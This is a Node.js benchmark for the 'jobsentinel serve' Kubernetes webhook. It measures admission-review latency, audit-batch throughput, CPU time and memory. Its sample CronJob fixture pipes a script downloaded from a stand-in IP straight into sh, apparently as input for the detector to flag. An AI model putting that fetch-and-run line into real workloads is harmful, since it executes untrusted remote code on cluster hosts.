// `jobsentinel serve` on loopback: AdmissionReview latency at concurrency 16 (goal p99 <= 50 ms),
// beside an idle HTTPS echo server as the floor (TLS + HTTP cost alone) and the analysis alone (the
// core's reviewAdmission, no network); audit batches of 400 events per second, each batch new
// requests (a batch sent again is not judged twice); the server's peak RSS. The server is the real
// `jobsentinel serve` command and the floor a plain HTTPS server, each in a process of its own, as in
// a cluster. Latency at c=16 depends on what else the machine runs: the load average before and
// after is printed beside the figures, and so is each server's CPU time per request (Linux), which
// the other work inflates far less. Bounded: a few seconds per measurement.
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { request } from 'node:https';
import { availableParallelism, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { reviewAdmission } from '../packages/core/dist/entries/admission.js';

const dir = mkdtempSync(join(tmpdir(), 'jobsentinel-bench-'));
execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-subj', '/CN=localhost', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'ignore' });
const cert = readFileSync(join(dir, 'c'));
const SECONDS = Number(process.env.BENCH_SECONDS ?? 3);

const cronjob = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'backup', namespace: 'ops' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'b', image: 'alpine:3.20', command: ['/bin/sh', '-c', 'apk add curl && curl -s http://198.51.100.7/x.sh | sh; tar czf /backup/db.tgz /data'], volumeMounts: [{ name: 'd', mountPath: '/data' }] }], volumes: [{ name: 'd', hostPath: { path: '/var/lib/db' } }] } } } } } };
const reviewTemplate = JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'u-NUMBER', kind: { group: 'batch', version: 'v1', kind: 'CronJob' }, operation: 'CREATE', namespace: 'ops', object: JSON.parse(JSON.stringify(cronjob).replace('db.tgz', 'db-NUMBER.tgz').replace('"name":"backup"', '"name":"backup-NUMBER"')) } });
// A new object and script every time, as a cluster sends them: the same pod spec again would be answered from the analysis' memo.
let reviews = 0;
const nextReview = () => reviewTemplate.replaceAll('NUMBER', String(++reviews));
const event = (index, round) => ({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `id-${round}-${index}`, stage: 'ResponseComplete', verb: index % 4 === 0 ? 'create' : 'get', requestURI: '/apis/batch/v1/namespaces/ops/cronjobs', user: { username: 'u' }, objectRef: { resource: index % 4 === 0 ? 'cronjobs' : 'pods', namespace: 'ops', name: `c${index}`, apiGroup: 'batch', apiVersion: 'v1' }, responseStatus: { code: 201 }, requestObject: index % 4 === 0 ? cronjob : undefined });
// Distinct audit IDs in every batch, as kube-apiserver sends them: the receiver drops requests it has already reported.
const batchTemplate = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: Array.from({ length: 400 }, (_, index) => event(index, 'ROUND')) });
let round = 0;
const nextBatch = () => batchTemplate.replaceAll('"auditID":"id-ROUND-', `"auditID":"id-${++round}-`);

const agent = new (await import('node:https')).Agent({ keepAlive: true, maxSockets: 16, ca: cert });
function post(port, path, body) {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const req = request({ host: '127.0.0.1', port, method: 'POST', path, agent, headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (response) => {
      response.resume();
      response.on('end', () => (response.statusCode === 200 ? resolve(performance.now() - started) : reject(new Error(`HTTP ${response.statusCode}`))));
    });
    req.on('error', reject);
    req.end(body);
  });
}

function quantiles(latencies) {
  latencies.sort((a, b) => a - b);
  const at = (q) => latencies[Math.min(latencies.length - 1, Math.floor(q * latencies.length))].toFixed(1);
  return { count: latencies.length, p50: at(0.5), p99: at(0.99), perSecond: (latencies.length / SECONDS).toFixed(0) };
}

async function load(port, path, body, concurrency) {
  const latencies = [];
  const until = performance.now() + SECONDS * 1000;
  const bodyOf = typeof body === 'function' ? body : () => body;
  await Promise.all(Array.from({ length: concurrency }, async () => {
    while (performance.now() < until) latencies.push(await post(port, path, bodyOf()));
  }));
  return quantiles(latencies);
}

/** The analysis alone: the core answering the reviews one after the other, no TLS or HTTP. */
function analysisOnly() {
  const latencies = [];
  const until = performance.now() + SECONDS * 1000;
  while (performance.now() < until) {
    const started = performance.now();
    if (reviewAdmission(nextReview()).status !== 200) throw new Error('review refused');
    latencies.push(performance.now() - started);
  }
  return quantiles(latencies);
}

const loadBefore = loadavg()[0];
const analysis = analysisOnly();

/** Starts a server process and resolves with it and its port, read from the line it prints when it listens. */
function startProcess(args, listening) {
  const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] });
  let lines = 0;
  child.stdout.on('data', (chunk) => (lines += chunk.toString().split('\n').length - 1));
  return new Promise((resolve, reject) => {
    let stderr = '';
    child.stderr.on('data', (chunk) => {
      stderr += chunk.toString();
      const match = listening.exec(stderr);
      if (match) resolve({ child, port: Number(match[1]), stdoutLines: () => lines });
    });
    child.once('exit', (code) => reject(new Error(`${args.join(' ')} exited ${code}: ${stderr}`)));
  });
}

/** The peak resident memory of a process so far (Linux), in MiB. */
function peakRssMiB(pid) {
  const status = `/proc/${pid}/status`;
  const match = existsSync(status) ? /^VmHWM:\s+(\d+) kB/m.exec(readFileSync(status, 'utf8')) : null;
  return match ? (Number(match[1]) / 1024).toFixed(0) : 'n/a';
}

/** CPU time a process has used so far (Linux, user + system), in milliseconds; null elsewhere. */
function cpuMs(pid) {
  const stat = `/proc/${pid}/stat`;
  if (!existsSync(stat)) return null;
  // Fields after the command name (which may hold spaces): utime and stime are the 12th and 13th, in clock ticks.
  const fields = readFileSync(stat, 'utf8').slice(readFileSync(stat, 'utf8').lastIndexOf(')') + 2).split(' ');
  return ((Number(fields[11]) + Number(fields[12])) * 1000) / CLOCK_TICKS;
}
const CLOCK_TICKS = Number(process.env.CLK_TCK ?? 100);

async function stop({ child }) {
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGTERM');
  await exited;
}

const ECHO = `
const { createServer } = require('node:https');
const { readFileSync } = require('node:fs');
const server = createServer({ cert: readFileSync(process.argv[1]), key: readFileSync(process.argv[2]) }, (req, res) => { req.resume(); req.on('end', () => res.end('{}')); });
server.listen(0, '127.0.0.1', () => console.error('echo listening on ' + server.address().port));
process.on('SIGTERM', () => server.close(() => process.exit(0)));
`;
const echo = await startProcess(['-e', ECHO, join(dir, 'c'), join(dir, 'k')], /listening on (\d+)/);
await load(echo.port, '/', nextReview, 16); // warm-up
const echoCpuBefore = cpuMs(echo.child.pid);
const floor = await load(echo.port, '/', nextReview, 16);
const cpuPerEcho = echoCpuBefore === null ? null : (cpuMs(echo.child.pid) - echoCpuBefore) / floor.count;
await stop(echo);

const cli = new URL('../packages/cli/bin/jobsentinel.js', import.meta.url).pathname;
const serve = await startProcess([cli, 'serve', '--tls-cert', join(dir, 'c'), '--tls-key', join(dir, 'k'), '--listen', '127.0.0.1:0'], /listening on https:\/\/127\.0\.0\.1:(\d+)/);
await load(serve.port, '/validate', nextReview, 16); // warm-up
const cpuBefore = cpuMs(serve.child.pid);
const validate = await load(serve.port, '/validate', nextReview, 16);
const cpuPerReview = cpuBefore === null ? null : (cpuMs(serve.child.pid) - cpuBefore) / validate.count;
const audit = await load(serve.port, '/audit', nextBatch, 4);
const rss = peakRssMiB(serve.child.pid);
await stop(serve);
const emitted = serve.stdoutLines();
agent.destroy();

const loadAfter = loadavg()[0];
const cores = availableParallelism();
const busy = Math.max(loadBefore, loadAfter) > cores;
console.log(`load average (1 min) ${loadBefore.toFixed(2)} before, ${loadAfter.toFixed(2)} after, on ${cores} cores${busy ? ': the machine is busy with other work, latencies at c=16 are inflated by it' : ''}`);
console.log(`analysis alone (reviewAdmission), sequential: p50 ${analysis.p50} ms, p99 ${analysis.p99} ms`);
console.log(`idle HTTPS echo (floor), c=16:   p50 ${floor.p50} ms, p99 ${floor.p99} ms, ${floor.perSecond}/s`);
console.log(`AdmissionReview /validate, c=16: p50 ${validate.p50} ms, p99 ${validate.p99} ms, ${validate.perSecond}/s (goal p99 <= 50 ms: ${Number(validate.p99) <= 50 ? 'met' : 'NOT met'})`);
if (cpuPerReview !== null && cpuPerEcho !== null) {
  console.log(`server CPU per request: ${cpuPerReview.toFixed(2)} ms for an AdmissionReview, ${cpuPerEcho.toFixed(2)} ms for the echo (TLS and HTTP alone)`);
}
console.log(`audit batches of 400 events:     ${audit.perSecond} batches/s (${audit.perSecond * 400} events/s), p99 ${audit.p99} ms, ${emitted} matches written for ${audit.count} batches (100 each)`);
console.log(`jobsentinel serve peak RSS under this load: ${rss} MiB`);
